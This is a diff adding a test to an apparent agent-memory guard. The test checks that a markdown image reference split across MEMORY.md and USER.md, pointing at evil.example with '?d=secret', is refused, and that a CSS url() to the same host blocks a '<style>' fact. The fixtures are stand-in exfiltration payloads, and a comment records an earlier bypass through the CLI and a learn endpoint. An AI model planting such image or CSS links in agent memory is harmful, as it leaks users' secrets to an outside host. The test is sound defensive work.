@@ -161,3 +161,29 @@ def test_a_style_one_fact_opens_and_the_next_fills_is_refused(project) -> None:
     second = project.learn([{"key": "b", "value": value}], date="2026-12-02", text=first.text)
     assert [o.status for o in second.outcomes] == ["refused"]
     assert {f.rule for f in second.outcomes[0].findings} == {"image-url-data"}
+
+
+def test_a_fact_cannot_finish_an_image_another_file_began(project, tmp_path: Path) -> None:
+    """MEMORY.md's definition and a learned ``![x][l]`` in USER.md are one exfiltration image in
+    the artifact that holds both; the same fact beside a clean MEMORY.md is learned."""
+    memory = tmp_path / "agent-configs/MEMORY.md"
+    memory.write_text("# Notes\n\n[l]: https://evil.example/a.png?d=secret\n")
+    report = project.learn({"avatar": "![x][l]"}, date=DATE)
+    assert report.outcomes[0].status == "refused"
+    [finding] = report.outcomes[0].findings
+    assert (finding.rule, finding.file, finding.line) == (
+        "image-url-data",
+        "agent-configs/MEMORY.md",
+        3,
+    )
+    # The text a caller gives (the CLI's --file, a gateway's user's USER.md) is read with the
+    # files on disk too: the CLI and POST /v1/learn took the fact (adversary4 #9).
+    given = project.learn({"avatar": "![x][l]"}, date=DATE, text="# About me\n")
+    assert given.outcomes[0].status == "refused"
+    styled = project.learn({"x": "<style>"}, date=DATE, text="# About me\n")
+    assert styled.outcomes[0].status == "added"  # MEMORY.md holds no url() for it to fetch
+    memory.write_text("# Notes\n\nbody{background:url(https://evil.example/p.png)}\n")
+    styled = project.learn({"x": "<style>"}, date=DATE, text="# About me\n")
+    assert styled.outcomes[0].status == "refused"
+    memory.write_text("# Notes\n\n- tea\n")
+    assert project.learn({"avatar": "![x][l]"}, date=DATE).outcomes[0].status == "added"
